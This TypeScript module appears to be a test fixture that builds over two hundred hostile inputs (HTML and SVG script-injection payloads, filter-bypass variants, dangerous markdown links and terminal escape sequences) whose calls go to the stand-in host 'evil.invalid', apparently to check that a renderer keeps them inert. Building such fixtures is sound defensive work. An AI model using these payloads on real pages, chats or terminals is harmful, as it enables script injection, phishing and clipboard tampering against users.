/** Where a payload would call if it ran or loaded; nothing may ever be asked of it. */
export const EVIL_HOST = 'evil.invalid';

const call = `fetch('https://${EVIL_HOST}/ran')`;

const markup = [
  `<script>${call}</script>`,
  `<script src=https://${EVIL_HOST}/x.js></script>`,
  `</script><script>${call}</script>`,
  `<img src=x onerror="${call}">`,
  `<img src="https://${EVIL_HOST}/pixel.png">`,
  `<svg onload="${call}">`,
  `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${call}"><text x=10 y=10>click</text></a></svg>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  `<object data="data:text/html,<script>${call}</script>"></object>`,
  `<embed src="https://${EVIL_HOST}/x.swf">`,
  `<body onload="${call}">`,
  `<details open ontoggle="${call}">`,
  `<input autofocus onfocus="${call}">`,
  `<video><source onerror="${call}"></video>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${call}"></style></mglyph></table></mtext></math>`,
  `<style>@import 'https://${EVIL_HOST}/x.css';</style>`,
  `<style>body{background:url(https://${EVIL_HOST}/bg.png)}</style>`,
  `<link rel=stylesheet href=https://${EVIL_HOST}/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://${EVIL_HOST}/">`,
  `<base href="https://${EVIL_HOST}/">`,
  `<form action="https://${EVIL_HOST}/"><button>Sign in again</button></form>`,
  `<a href="javascript:${call}">click</a>`,
  `<a href="data:text/html,<script>${call}</script>">click</a>`,
  `<template shadowrootmode=open><img src=x onerror="${call}"></template>`,
  `"><img src=x onerror="${call}">`,
  `'><img src=x onerror="${call}">`,
  `" onmouseover="${call}" x="`,
  `\` onmouseover=\`${call}\``,
  `{{constructor.constructor("${call}")()}}`,
  `\${${call}}`,
  `<!--><img src=x onerror="${call}">-->`,
  `<![CDATA[<img src=x onerror="${call}">]]>`,
  `&lt;img src=x onerror=&quot;${call}&quot;&gt;`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `<scr\u0000ipt>${call}</scr\u0000ipt>`.replaceAll('\u0000', ''),
  `<ScRiPt>${call}</sCrIpT>`,
  `\u202e<script>${call}</script>`,
];

const markdown = [
  `[click](javascript:${call})`,
  `[click](JaVaScRiPt:${call})`,
  `[click](&#106;avascript:${call})`,
  `[click](java\tscript:${call})`,
  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[click](vbscript:msgbox(1))`,
  `[click](file:///etc/passwd)`,
  `[x]: javascript:${call}\n\n[x]`,
  `<javascript:${call}>`,
  `![picture](https://${EVIL_HOST}/picture.png)`,
  `![picture](javascript:${call})`,
  `![x](x "onerror=${call}")`,
  `[a](https://${EVIL_HOST}" onmouseover="${call})`,
  '```html\n<img src=x onerror="alert(1)">\n```',
  `| <img src=x onerror="${call}"> |\n|---|\n| x |`,
  `- [ ] <img src=x onerror="${call}">`,
  `[^1]: <img src=x onerror="${call}">\n\ntext[^1]`,
  `$$\\href{javascript:${call}}{x}$$`,
];

const esc = '\u001b';
const terminal = [
  `${esc}]8;;javascript:${call}${esc}\\click${esc}]8;;${esc}\\`,
  `${esc}]8;;https://${EVIL_HOST}/${esc}\\click${esc}]8;;${esc}\\`,
  `${esc}]8;;data:text/html,<script>${call}</script>\u0007click${esc}]8;;\u0007`,
  `${esc}]52;c;ZXZpbA==\u0007`,
  `${esc}]0;<img src=x onerror="${call}">\u0007`,
  `${esc}]1337;File=inline=1:PGltZz4=\u0007`,
  `${esc}[31m<img src=x onerror="${call}">${esc}[0m`,
  `${esc}[38;2;1;2;3;"><script>${call}</script>m`,
  `${esc}[2J${esc}[H${esc}[?1049h<svg onload="${call}">`,
  `${esc}P+q544e${esc}\\<img src=x onerror="${call}">`,
  `${esc}[1;31" onmouseover="${call}mred${esc}[0m`,
  `${esc}]10;?\u0007${esc}[6n${esc}[c`,
];

/** Texts that would do something somewhere if they were taken for more than text. At least two hundred. */
export function hostileTexts(): string[] {
  const plain = [...markup, ...markdown, ...terminal];
  return [
    ...plain,
    ...markup.map((text) => `**${text}** and [${text}](https://example.com)`),
    ...markup.map((text) => `${esc}[1m${text}${esc}[0m`),
    ...markdown.map((text) => `> ${text}`),
    ...terminal.map((text) => `\`${text}\``),
    ...markup.slice(0, 30).map((text) => JSON.stringify({ type: 'assistant', text })),
  ];
}
